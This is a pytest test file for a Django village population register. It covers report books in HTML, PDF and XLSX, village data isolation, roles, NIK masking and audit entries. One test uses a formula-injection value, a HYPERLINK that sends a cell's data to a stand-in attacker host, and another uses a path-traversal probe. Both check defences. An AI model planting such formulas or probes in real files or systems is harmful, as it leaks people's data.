import datetime
import io

import pytest
from django.utils import timezone
from django_scopes import scope, scopes_disabled
from openpyxl import load_workbook
from pypdf import PdfReader

from balai.akun.models import Peran
from balai.core.models import AuditEntry
from balai.laporan.buku import BukuRekapitulasi, Periode
from balai.penduduk import kode
from balai.penduduk.models import Peristiwa
from balai.penduduk.tests.factories import make_keluarga, make_penduduk
from balai.wilayah.models import RT, RW, Dusun

pytestmark = pytest.mark.django_db
MARET = Periode(2025, 3)


@pytest.fixture
def register_a(desa_a):
    """Village A: dusun Krajan and Kidul.
    Before March 2025: Budi (L, Krajan, KK head), Sari (P, Krajan), Joko (L, Kidul, WNA).
    In March 2025: baby Ayu born in Krajan (5th), Dewi arrives in Kidul (10th) as a temporary
    resident, Joko moves away (20th), Sari dies (25th)."""
    with scopes_disabled():
        krajan = Dusun.objects.create(desa=desa_a, nama="Krajan")
        kidul = Dusun.objects.create(desa=desa_a, nama="Kidul")
        rw1 = RW.objects.create(desa=desa_a, dusun=krajan, nomor=1)
        rw2 = RW.objects.create(desa=desa_a, dusun=kidul, nomor=2)
        rt1 = RT.objects.create(desa=desa_a, rw=rw1, nomor=1)
        rt2 = RT.objects.create(desa=desa_a, rw=rw2, nomor=3)
        krajan_place = dict(dusun=krajan, rw=rw1, rt=rt1)
        kidul_place = dict(dusun=kidul, rw=rw2, rt=rt2)
        kk = make_keluarga(desa_a, alamat="Jl. Mawar 5", tanggal_cetak_kk=datetime.date(2021, 7, 14), **krajan_place)
        budi = make_penduduk(desa_a, nama="Budi Santoso", keluarga=kk, shdk=1, bahasa=4, **krajan_place)
        sari = make_penduduk(
            desa_a, nama="Sari Rahayu", keluarga=kk, shdk=3, jenis_kelamin=kode.PEREMPUAN, **krajan_place
        )
        joko = make_penduduk(desa_a, nama="Joko Smith", warganegara=2, **kidul_place)
        ayu = make_penduduk(
            desa_a,
            nama="Ayu Lestari",
            keluarga=kk,
            shdk=4,
            status_kawin=1,
            jenis_kelamin=kode.PEREMPUAN,
            tanggal_lahir=datetime.date(2025, 3, 5),
            **krajan_place,
        )
        dewi = make_penduduk(
            desa_a, nama="Dewi Pendatang", jenis_kelamin=kode.PEREMPUAN, status_penduduk=2, **kidul_place
        )
        J = Peristiwa.Jenis
        ev = [
            (ayu, J.LAHIR, datetime.date(2025, 3, 5), "", "AL-001"),
            (dewi, J.DATANG, datetime.date(2025, 3, 10), "Kab. Banyumas", "SKPWNI-9"),
            (joko, J.PINDAH_KELUAR, datetime.date(2025, 3, 20), "Kota Semarang", "SKPWNI-7"),
            (sari, J.MATI, datetime.date(2025, 3, 25), "", "AK-3"),
        ]
        for p, jenis, tanggal, asal, dok in ev:
            Peristiwa.objects.create(
                desa=desa_a, penduduk=p, jenis=jenis, tanggal=tanggal, asal_tujuan=asal, no_dokumen=dok
            )
        joko.status_dasar = kode.PINDAH
        joko.save()
        sari.status_dasar = kode.MATI
        sari.save()
        return dict(budi=budi, sari=sari, joko=joko, ayu=ayu, dewi=dewi, kk=kk)


@pytest.fixture
def register_b(desa_b):
    with scopes_disabled():
        return make_penduduk(desa_b, nama="Rahasia Karangpetir Warga")


def _pdf_text(content):
    reader = PdfReader(io.BytesIO(content))
    text = " ".join(page.extract_text() for page in reader.pages)
    return " ".join(text.split()), len(reader.pages)


def test_rekapitulasi_per_dusun(desa_a, register_a):
    with scope(desa=desa_a):
        rows = list(BukuRekapitulasi(desa=desa_a, periode=MARET).baris())
    by_name = {r[1]: r[2:-1] for r in rows}
    # columns: awal(WNA L, WNA P, WNI L, WNI P, KK, anggota, jiwa), lahir x4, datang x4, mati x4, pindah x4, akhir x7
    krajan, kidul, total = by_name["Krajan"], by_name["Kidul"], by_name["JUMLAH"]
    assert krajan[:7] == [0, 0, 1, 1, 1, 1, 2]  # Budi, Sari; one KK
    assert krajan[7:11] == [0, 0, 0, 1]  # Ayu born
    assert krajan[15:19] == [0, 0, 0, 1]  # Sari died
    assert krajan[23:30] == [0, 0, 1, 1, 1, 1, 2]  # Budi, Ayu
    assert kidul[:7] == [1, 0, 0, 0, 0, 1, 1]  # Joko (WNA); Dewi not here yet
    assert kidul[11:15] == [0, 0, 0, 1]  # Dewi arrives
    assert kidul[19:23] == [1, 0, 0, 0]  # Joko leaves
    assert kidul[23:30] == [0, 0, 0, 1, 0, 1, 1]
    assert total[6] == 3 and total[29] == 3
    # start + in - out = end
    assert total[6] + sum(total[7:15]) - sum(total[15:23]) == total[29]


def test_rekapitulasi_queries_bounded(desa_a, register_a, django_assert_max_num_queries):
    kode.semua()
    with scope(desa=desa_a), django_assert_max_num_queries(4):
        list(BukuRekapitulasi(desa=desa_a, periode=MARET).baris())


def test_index_lists_books(desa_a, operator_a, client_for):
    body = client_for(desa_a, operator_a).get("/admin-desa/laporan/").content.decode()
    for judul in (
        "Buku Induk Penduduk",
        "Buku Mutasi Penduduk Desa",
        "Buku Rekapitulasi Jumlah Penduduk",
        "Buku Penduduk Sementara",
        "Buku KTP dan KK",
    ):
        assert judul in body


def test_roles(desa_a, make_user, client_for):
    perangkat = make_user(Peran.PERANGKAT_DESA, desa=desa_a)
    assert client_for(desa_a, perangkat).get("/admin-desa/laporan/induk/").status_code == 403
    kades = make_user(Peran.KEPALA_DESA, desa=desa_a)
    assert client_for(desa_a, kades).get("/admin-desa/laporan/induk/").status_code == 200


def test_unknown_book_404(desa_a, operator_a, client_for):
    assert client_for(desa_a, operator_a).get("/admin-desa/laporan/rahasia/").status_code == 404


def test_induk_html_isolated(desa_a, register_a, register_b, operator_a, client_for):
    body = client_for(desa_a, operator_a).get("/admin-desa/laporan/induk/").content.decode()
    assert "Budi Santoso" in body and "Ayu Lestari" in body
    assert "Sari Rahayu" not in body  # died: no longer in the register of the living
    assert "Rahasia Karangpetir" not in body
    assert register_a["budi"].nik in body


def test_mutasi_html(desa_a, register_a, operator_a, client_for):
    r = client_for(desa_a, operator_a).get("/admin-desa/laporan/mutasi/?bulan=3&tahun=2025")
    body = r.content.decode()
    assert "Kota Semarang" in body and "Kab. Banyumas" in body and "Meninggal" in body
    r = client_for(desa_a, operator_a).get("/admin-desa/laporan/mutasi/?bulan=4&tahun=2025")
    assert "Tidak ada data" in r.content.decode()


def test_induk_pdf(desa_a, register_a, register_b, operator_a, client_for):
    desa_a.nama_kepala = "Slamet Riyadi"
    desa_a.save()
    r = client_for(desa_a, operator_a).get("/admin-desa/laporan/induk/?format=pdf")
    assert r["Content-Type"] == "application/pdf"
    text, pages = _pdf_text(r.content)
    assert "BUKU INDUK PENDUDUK" in text
    assert "PEMERINTAH KABUPATEN PURBALINGGA" in text
    assert "Budi Santoso" in text and register_a["budi"].nik in text
    assert "Rahasia Karangpetir" not in text
    assert "Slamet Riyadi" in text and "Kepala Desa" in text
    assert "Halaman 1" in text and pages == 1
    assert "Dapat membaca huruf" in text and "ARAB DAN LATIN" in text
    with scopes_disabled():
        entry = AuditEntry.objects.get(action="laporan.diunduh")
    assert entry.desa == desa_a and entry.changes["format"] == "pdf"
    assert register_a["budi"].nik not in str(entry.changes) + entry.object_label


def test_mutasi_and_rekap_pdf(desa_a, register_a, operator_a, client_for):
    client = client_for(desa_a, operator_a)
    text, _ = _pdf_text(client.get("/admin-desa/laporan/mutasi/?bulan=3&tahun=2025&format=pdf").content)
    assert "BUKU MUTASI PENDUDUK DESA BULAN MARET 2025" in text
    assert "Joko Smith" in text and "Kota Semarang" in text
    text, _ = _pdf_text(client.get("/admin-desa/laporan/rekapitulasi/?bulan=3&tahun=2025&format=pdf").content)
    assert "Krajan" in text and "Kidul" in text and "JUMLAH" in text


def test_sementara_and_ktp(desa_a, register_a, operator_a, client_for):
    client = client_for(desa_a, operator_a)
    text, _ = _pdf_text(client.get("/admin-desa/laporan/sementara/?format=pdf").content)
    assert "Dewi Pendatang" in text and "Kab. Banyumas" in text
    assert "Budi Santoso" not in text
    body = client.get("/admin-desa/laporan/ktp-kk/").content.decode()
    assert "Budi Santoso" in body and register_a["kk"].no_kk in body
    assert "Ayu Lestari" not in body  # a baby needs no KTP
    assert "Purbalingga, 14-07-2021" in body  # the KK's print date, where the kabupaten issued it
    text, _ = _pdf_text(client.get("/admin-desa/laporan/ktp-kk/?format=pdf").content)
    assert "BUKU KTP DAN KK" in text and "Budi Santoso" in text and "Purbalingga, 14-07-2021" in text
    assert "Tempat & tanggal dikeluarkan" in text


def test_xlsx(desa_a, register_a, operator_a, client_for):
    r = client_for(desa_a, operator_a).get("/admin-desa/laporan/induk/?format=xlsx")
    ws = load_workbook(io.BytesIO(b"".join(r.streaming_content)), read_only=True).active
    rows = [list(x) for x in ws.iter_rows(values_only=True)]
    assert rows[0][0] == "BUKU INDUK PENDUDUK"
    assert rows[3][:2] == ["Nomor urut", "Nama lengkap/panggilan"]
    names = {row[1] for row in rows[5:]}
    assert {"Budi Santoso", "Ayu Lestari", "Dewi Pendatang"} <= names
    kolom = rows[3].index("Dapat membaca huruf")
    assert {row[1]: row[kolom] for row in rows[5:]}["Budi Santoso"] == "ARAB DAN LATIN"
    r = client_for(desa_a, operator_a).get("/admin-desa/laporan/ktp-kk/?format=xlsx")
    ws = load_workbook(io.BytesIO(b"".join(r.streaming_content)), read_only=True).active
    ktp = [list(x) for x in ws.iter_rows(values_only=True)]
    kolom = ktp[3].index("Tempat & tanggal dikeluarkan")
    assert {row[2]: row[kolom] for row in ktp[5:]}["Budi Santoso"] == "Purbalingga, 14-07-2021"
    assert ktp[3][15:17] == ["Orang tua: Ayah", "Orang tua: Ibu"]
    r = client_for(desa_a, operator_a).get("/admin-desa/laporan/rekapitulasi/?bulan=3&tahun=2025&format=xlsx")
    ws = load_workbook(io.BytesIO(b"".join(r.streaming_content)), read_only=True).active
    rows = [list(x) for x in ws.iter_rows(values_only=True)]
    assert rows[3][2] == "Jumlah penduduk awal bulan: WNA L"
    assert rows[-1][1] == "JUMLAH"
    with scopes_disabled():
        assert AuditEntry.objects.filter(action="laporan.diunduh", desa=desa_a).count() == 3


def test_nik_masked_for_kabupaten_admin(desa_a, register_a, make_user, client_for):
    admin = make_user(Peran.ADMIN_KABUPATEN)
    body = client_for(desa_a, admin).get("/admin-desa/laporan/induk/").content.decode()
    assert "Budi Santoso" in body
    assert register_a["budi"].nik not in body


def test_long_book_pdf_in_background(
    desa_a, register_a, operator_a, make_user, client_for, settings, tmp_path, django_capture_on_commit_callbacks
):
    from balai.laporan import views

    settings.BALAI_PRIVAT_ROOT = str(tmp_path)
    client = client_for(desa_a, operator_a)
    old, views.BATAS_PDF_LANGSUNG = views.BATAS_PDF_LANGSUNG, 0
    try:
        with django_capture_on_commit_callbacks(execute=True):
            r = client.get("/admin-desa/laporan/induk/?format=pdf")
    finally:
        views.BATAS_PDF_LANGSUNG = old
    assert r.status_code == 302
    page = r["Location"]
    assert "/admin-desa/laporan/unduhan/induk-" in page
    assert "sudah siap" in client.get(page).content.decode()  # tests run tasks inline
    assert b"<html" not in client.get(page, HTTP_HX_REQUEST="true").content  # the polling fragment
    restore = client.get(page, HTTP_HX_REQUEST="true", HTTP_HX_HISTORY_RESTORE_REQUEST="true")
    assert b"<html" in restore.content
    # Another account of the same village does not get this file.
    other = client_for(desa_a, make_user(Peran.SEKDES, desa=desa_a))
    assert "sudah siap" not in other.get(page).content.decode()
    r = client.get(page + "?ambil=1")
    assert r["Content-Type"] == "application/pdf"
    text, _ = _pdf_text(r.content)
    assert "Budi Santoso" in text
    with scopes_disabled():
        assert AuditEntry.objects.filter(action="laporan.diunduh", desa=desa_a).count() == 1
    assert not list(tmp_path.rglob("*.pdf")), "served once, then deleted"
    assert client.get("/admin-desa/laporan/unduhan/..%2Fetc-202501-0123456789abcdef/").status_code == 404


def test_long_book_pdf_paginates_with_headings_on_every_page(desa_a, register_a, operator_a):
    from balai.laporan import ekspor, pdf
    from balai.laporan.buku import BukuInduk

    with scopes_disabled():
        kk = make_keluarga(desa_a, alamat="Jl. Panjang " + "sekali " * 12)
        for i in range(150):
            make_penduduk(desa_a, nama=f"Warga Panjang {i:03d}", keluarga=kk, shdk=4, bahasa=1)
    with scope(desa=desa_a):
        buku = BukuInduk(desa=desa_a, user=operator_a)
        content = ekspor.pdf_bytes(buku)
        # Drawn onto a new canvas every two pages, the canvases joined: the same book.
        bagian = pdf.pdf_bytes(buku, kop=ekspor.kop(desa_a), tanggal=timezone.localdate(), halaman_per_bagian=2)
    reader = PdfReader(io.BytesIO(content))
    pages = [" ".join(page.extract_text().split()) for page in reader.pages]
    assert len(pages) > 3
    assert [" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(bagian)).pages] == pages
    for i, text in enumerate(pages, 1):
        assert "Namalengkap/panggilan" in text.replace(" ", ""), f"headings on page {i}"
        assert "Dapat membaca huruf" in text and "Kedudukan dalam keluarga" in text
        assert f"Halaman {i}" in text and "A.1 Buku Induk Penduduk · Desa Selakambang" in text
        assert ("PEMERINTAH KABUPATEN PURBALINGGA" in text) == (i == 1), "the village header opens the book"
        assert ("Kepala Desa Selakambang" in text) == (i == len(pages)), "signed after the last row"
    text = " ".join(pages)
    order = [text.index(f"Warga Panjang {i:03d}") for i in range(150)]
    assert order == sorted(order), "every row, in the book's order, none lost at a page break"
    assert reader.pages[0].mediabox.width > reader.pages[0].mediabox.height, "A4 landscape"


def test_html_pages_through_the_book(desa_a, register_a, operator_a, client_for, monkeypatch):
    from balai.laporan import views

    monkeypatch.setattr(views, "PER_HALAMAN", 2)
    client = client_for(desa_a, operator_a)
    first = client.get("/admin-desa/laporan/induk/")
    assert [row[0] for row in first.context["rows"]] == [1, 2] and first.context["berikutnya"] == 2
    second = client.get("/admin-desa/laporan/induk/?hal=2")
    assert [row[0] for row in second.context["rows"]] == [3] and second.context["berikutnya"] is None
    names = {row[1] for row in first.context["rows"] + second.context["rows"]}
    assert names == {"Budi Santoso", "Ayu Lestari", "Dewi Pendatang"}
    rekap = client.get("/admin-desa/laporan/rekapitulasi/?bulan=3&tahun=2025&hal=2")
    assert [row[1] for row in rekap.context["rows"]] == ["JUMLAH"]


def test_stale_unfetched_pdfs_are_removed(desa_a, operator_a, settings, tmp_path):
    import os
    import time

    from balai.laporan import unduhan

    settings.BALAI_PRIVAT_ROOT = str(tmp_path)
    folder = tmp_path / "desa" / str(desa_a.pk) / "laporan" / str(operator_a.pk)
    folder.mkdir(parents=True)
    old, new = folder / "induk-202501-0000000000000000.pdf", folder / "induk-202501-1111111111111111.pdf"
    old.write_bytes(b"%PDF")
    new.write_bytes(b"%PDF")
    two_days_ago = time.time() - 2 * 86400
    os.utime(old, (two_days_ago, two_days_ago))
    unduhan.remove_stale(desa_a.pk, operator_a.pk)
    assert not old.exists() and new.exists()
    unduhan.remove_stale(desa_a.pk, operator_a.pk + 1)  # a folder that does not exist: nothing to do


def test_xlsx_keeps_formula_like_names_as_text(desa_a, register_a, operator_a, client_for):
    jahat = '=HYPERLINK("http://jahat.example/?"&B6,"klik")'
    with scopes_disabled():
        budi = register_a["budi"]
        budi.nama = jahat
        budi.save()
    r = client_for(desa_a, operator_a).get("/admin-desa/laporan/induk/?format=xlsx")
    ws = load_workbook(io.BytesIO(b"".join(r.streaming_content))).active
    cells = [c for row in ws.iter_rows() for c in row if c.value == jahat]
    assert cells and all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("hal", ["99999999999999999999", "9" * 5000, "-5", "0", "1e9", "２", "abc", ""])
def test_absurd_page_number_is_not_a_server_error(desa_a, register_a, operator_a, client_for, hal):
    client = client_for(desa_a, operator_a)
    for buku in ("induk", "mutasi", "rekapitulasi"):
        response = client.get(f"/admin-desa/laporan/{buku}/", {"hal": hal})
        assert response.status_code == 200, (buku, hal)
        assert 1 <= response.context["hal"] <= 10_000
